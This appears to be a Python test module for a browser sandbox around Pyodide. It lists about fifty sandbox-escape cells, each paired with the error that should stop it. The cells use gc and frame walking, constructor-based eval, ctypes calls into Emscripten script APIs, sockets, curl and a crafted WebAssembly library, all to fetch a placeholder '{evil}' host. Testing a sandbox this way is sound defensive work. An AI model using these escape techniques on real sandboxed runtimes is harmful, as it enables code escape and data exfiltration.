"""Cells that try to get out of the page's Python, and what each is to fail with.

`{evil}` stands for an address of another host, `{host}` for that host and its port.
"""

from __future__ import annotations


def side_module(body: str) -> bytes:
    """A library of WebAssembly that brings JavaScript along, as EM_JS of Emscripten makes it.

    body: what follows `() =>`, and runs when the library is loaded, where text is run as code.
    """

    def size(n: int) -> bytes:
        return bytes([n]) if n < 128 else bytes([n & 127 | 128]) + size(n >> 7)

    def vector(data: bytes) -> bytes:
        return size(len(data)) + data

    text = b"(void)<::>" + body.encode() + b"\0"
    memory = b"\1" + vector(size(len(text)) + b"\4\0\0")  # its size, then no table
    imported = vector(b"env") + vector(b"memory") + b"\2\0\0"
    imported += vector(b"env") + vector(b"__memory_base") + b"\3\x7f\0"
    sections = {
        0: vector(b"dylink.0") + memory,
        2: b"\2" + imported,
        6: b"\1\x7f\0\x41\0\x0b",  # where the text is, from the base on: 0
        7: b"\1" + vector(b"__em_js__evil") + b"\3\1",
        11: b"\1\0\x23\0\x0b" + vector(text),
    }
    return b"\0asm\1\0\0\0" + b"".join(bytes([k]) + vector(one) for k, one in sections.items())


# What stands in the way of an import is taken away first.
AGAIN = """
import sys
for name in [name for name, module in sys.modules.items() if module is None]:
    del sys.modules[name]
"""
# From C, Pyodide's core can be made anew, and with it JavaScript's arrays.
CORE = (
    AGAIN
    + """
import ctypes
make = ctypes.pythonapi.PyInit__pyodide_core
make.restype = ctypes.py_object
core = make()
array = core.to_js([1])
assert str(array) == "1" and "Array" in str(array.constructor)
"""
)
ATTACKS = {
    "import js": "import js\njs.fetch('{evil}')",
    "import pyodide_js": "import pyodide_js\npyodide_js.loadPackage('{evil}')",
    "run_js": "from pyodide.code import run_js\nrun_js(\"fetch('{evil}')\")",
    "pyodide.http": "from pyodide.http import open_url\nopen_url('{evil}')",
    "pyxhr": "from pyodide.http import pyxhr\npyxhr.get('{evil}')",
    "imports again": AGAIN + "import js\njs.fetch('{evil}')",
    "all of Pyodide again": AGAIN + "import pyodide.code\npyodide.code.run_js(\"fetch('{evil}')\")",
    "the built-in core again": AGAIN
    + """
import _pyodide_core
_pyodide_core.to_js([1]).constructor.constructor("fetch('{evil}')")()""",
    "the core by hand": AGAIN
    + """
import importlib.machinery, _imp
spec = importlib.machinery.ModuleSpec("_pyodide_core", importlib.machinery.BuiltinImporter)
_imp.create_builtin(spec).run_js("fetch('{evil}')")""",
    "a finder of our own": AGAIN
    + """
from _pyodide._importhook import register_js_finder
register_js_finder()
import js
js.fetch('{evil}')""",
    "proxies found by gc": """
import gc
for holder in gc.get_objects():
    for one in [holder, *gc.get_referents(holder)]:
        if type(one).__name__.startswith("Js") and hasattr(one, "js_id"):
            one.constructor.constructor("fetch('{evil}')")()
raise LookupError("no JavaScript in any object")""",
    "modules found by gc": """
import gc, types
for one in gc.get_objects():
    if isinstance(one, types.ModuleType) and hasattr(one, "to_js"):
        one.to_js([]).constructor.constructor("fetch('{evil}')")()
raise LookupError("no module with a way to JavaScript")""",
    "functions found by gc": """
import gc
for one in gc.get_objects():
    if getattr(one, "__name__", "") in ("to_js", "run_js", "create_proxy", "raw_call"):
        one([]).constructor.constructor("fetch('{evil}')")()
raise LookupError("no function with a way to JavaScript")""",
    "subclasses of object": """
kind = next(one for one in object.__subclasses__() if one.__name__ == "JsProxy")
kind.__new__(kind).constructor.constructor("fetch('{evil}')")()""",
    "frames": """
import sys
frame = sys._getframe()
while frame is not None:
    for one in [*frame.f_globals.values(), *frame.f_locals.values()]:
        if hasattr(one, "js_id"):
            one.fetch('{evil}')
    frame = frame.f_back
raise LookupError("no JavaScript in any frame")""",
    "the event loop": """
import asyncio
asyncio.new_event_loop().call_soon(print)
asyncio.get_event_loop().create_task(None).scheduleCallback('{evil}')""",
    "urllib": "import urllib.request\nurllib.request.urlopen('{evil}')",
    "http.client": "import http.client\nhttp.client.HTTPConnection('{host}').request('GET', '/x')",
    "socket": "import socket\nsocket.create_connection(tuple('{host}'.split(':')), 3)",
    "webbrowser": "import webbrowser\nassert webbrowser.open('{evil}')",
    "subprocess": "import subprocess\nsubprocess.run(['curl', '{evil}'], check=True)",
    "sys.modules": "import sys\nsys.modules['js'].fetch('{evil}')",
    "reload": """
import importlib, sys
importlib.reload(sys.modules["pyodide"])""",
    "the names of a module made anew": """
import importlib, types
importlib.reload(types.ModuleType("js")).fetch('{evil}')""",
    "the event loop of Pyodide": AGAIN
    + """
from pyodide.webloop import WebLoop
WebLoop().call_soon(print)""",
    "ftp": "import ftplib\nftplib.FTP('{host}'.split(':')[0], timeout=3)",
    "an asynchronous socket": """
import asyncio
async def out():
    await asyncio.open_connection(*'{host}'.split(':'))
asyncio.run(out())""",
    "input": "input('{evil}')",
    "shell": "import os\nassert os.system('curl {evil}') == 0",
    "C: run a script": """
import ctypes
ctypes.pythonapi.emscripten_run_script(b"fetch('{evil}')")""",
    "C: import a script": """
import ctypes
ctypes.pythonapi.emscripten_run_script(b"import('{evil}')")""",
    "C: run a script for its value": """
import ctypes
ctypes.pythonapi.emscripten_run_script_string(b"fetch('{evil}')")""",
    "C: EM_ASM": """
import ctypes
ctypes.pythonapi.emscripten_asm_const_int(b"fetch('{evil}')", b"", None)""",
    "C: wget": """
import ctypes
ctypes.pythonapi.emscripten_wget(b"{evil}", b"/tmp/x")
open("/tmp/x").read()""",
    "C: async wget": """
import ctypes, time
ctypes.pythonapi.emscripten_async_wget(b"{evil}", b"/tmp/y", None, None)
open("/tmp/y").read()""",
    "C: a load of a script": """
import ctypes
ctypes.pythonapi.emscripten_async_load_script(b"{evil}", None, None)
raise LookupError("nothing came back")""",
    "C: a library from the network": "import ctypes\nctypes.CDLL('{evil}')",
    "C: a web socket": """
import ctypes
url = ctypes.create_string_buffer(b"ws://{host}/x")
asked = (ctypes.c_void_p * 3)(ctypes.addressof(url), 0, 1)
assert ctypes.pythonapi.emscripten_websocket_new(asked) > 0""",
    "C: a worker": """
import ctypes
assert ctypes.pythonapi.emscripten_create_worker(b"{evil}") > 0
raise LookupError("nothing came back")""",
    "C: the core made again": CORE + "core.run_js(\"fetch('{evil}')\")",
    "C: constructors": CORE + "array.constructor.constructor(\"fetch('{evil}')\")()",
    "C: prototypes": CORE
    + """
one = array
while one is not None:
    print(one, one.constructor)
    one.constructor.constructor("return globalThis")().fetch('{evil}')
    one = one.__proto__""",
    "C: functions of JavaScript": CORE
    + """
made = array.constructor("return globalThis")
find = core.create_proxy(lambda *these: these)
array.map(find, array)
array.constructor("x").map.constructor("fetch('{evil}')")()""",
    "C: an error of JavaScript": CORE
    + """
try:
    array.at.call(None)
except Exception as error:
    error.js_error.constructor.constructor("fetch('{evil}')")()""",
    "C: `this` of JavaScript": CORE
    + """
found = []
array.forEach(core.create_proxy(lambda *these: found.append(these[0])).captureThis())
found[0].fetch('{evil}')""",
    "C: an import of JavaScript": CORE
    + """
seen, todo = set(), [array, core.create_proxy(print), core.to_js({"a": 1}), core.to_js(b"x")]
while todo:
    one = todo.pop()
    for name in [*dir(one), "constructor", "prototype", "caller"]:
        try:
            found = getattr(one, name)
            words = f"{name} {found}"
        except Exception:
            continue
        if hasattr(found, "js_id") and words not in seen:
            seen.add(words)
            todo.append(found)
            if "fetch" in words or "postMessage" in words or "import" in words:
                found('{evil}')
assert len(seen) > 100, len(seen)
raise LookupError("nothing among all that can be reached imports or sends")""",
    "C: a library with JavaScript of its own": """
import ctypes
open("/tmp/evil.so", "wb").write({library})
ctypes.CDLL("/tmp/evil.so")""",
}

# The end of what each is told: what stopped it.
STOPPED_BY = {
    "import js": "import of js halted; None in sys.modules",
    "import pyodide_js": "import of pyodide_js halted; None in sys.modules",
    "run_js": "'pyodide' is not a package",
    "pyodide.http": "'pyodide' is not a package",
    "pyxhr": "'pyodide' is not a package",
    "imports again": "No module named 'js'",
    "all of Pyodide again": "No module named 'js'",
    "the built-in core again": "no attribute 'to_js'",
    "the core by hand": "no attribute 'run_js'",
    "a finder of our own": "No module named 'js'",
    "proxies found by gc": "no JavaScript in any object",
    "modules found by gc": "LookupError: no module with a way to JavaScript",
    "functions found by gc": "LookupError: no function with a way to JavaScript",
    "subclasses of object": "name '_instantiate_token' is not defined",
    "frames": "no JavaScript in any frame",
    "the event loop": "name 'WebLoop' is not defined",
    "urllib": "Host is unreachable",
    "http.client": "Host is unreachable",
    "socket": "Host is unreachable",
    "webbrowser": "import of js halted; None in sys.modules",
    "subprocess": "does not support processes",
    "sys.modules": "'NoneType' object has no attribute 'fetch'",
    "reload": "reload() argument must be a module",
    "the names of a module made anew": "module js not in sys.modules",
    "the event loop of Pyodide": "name 'scheduleCallback' is not defined",
    "ftp": "Host is unreachable",
    "an asynchronous socket": "'pyodide_js' is not a package",
    "input": "A page cannot ask with input()",
    "shell": "AssertionError",
    "C: run a script": "(eval is not defined)",
    "C: import a script": "(eval is not defined)",
    "C: run a script for its value": "(eval is not defined)",
    "C: EM_ASM": "ASM_CONSTS[code] is not a function",
    "C: wget": 'unknown symbol "emscripten_wget"',
    "C: async wget": "No such file or directory: '/tmp/y'",
    "C: a load of a script": "nothing came back",
    "C: a library from the network": "Unexpected call to locateFile",
    "C: a web socket": "AssertionError",
    "C: a worker": "(Worker is not defined)",
    "C: the core made again": "no attribute 'run_js'",
    "C: constructors": "EvalError: Text is not run as code here.",
    "C: prototypes": "EvalError: Text is not run as code here.",
    "C: functions of JavaScript": "EvalError: Text is not run as code here.",
    "C: an error of JavaScript": "EvalError: Text is not run as code here.",
    "C: `this` of JavaScript": "'NoneType' object has no attribute 'fetch'",
    "C: an import of JavaScript": "LookupError: nothing among all",
    "C: a library with JavaScript of its own": "ReferenceError: eval is not defined",
}


def aimed(source: str, evil: str) -> str:
    """The cell of an attack, aimed at the server `evil`, an address with a slash at its end."""
    library = side_module(f"{{ return 1 }}; fetch('{evil}library'); 1")
    given = {"{evil}": f"{evil}x", "{host}": evil.split("/")[2], "{library}": repr(library)}
    for name, value in given.items():
        source = source.replace(name, value)
    return source
